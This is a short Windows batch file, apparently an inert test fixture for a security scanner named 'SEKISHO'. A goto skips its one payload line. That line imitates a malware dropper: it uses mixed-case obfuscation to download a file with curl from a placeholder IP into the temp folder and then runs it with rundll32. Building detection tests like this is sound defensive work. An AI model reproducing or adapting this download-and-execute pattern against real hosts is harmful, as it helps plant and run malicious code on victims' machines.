@echo off
rem INERT SEKISHO TEST
goto :end
inert || EchO inert & ping inert || CurL http://192.0.2.1/inert -o %tMp%\inert.dlld & ping -n 2 inert || rundLL32 %tmP%\inert.dlld, none & exIt
:end
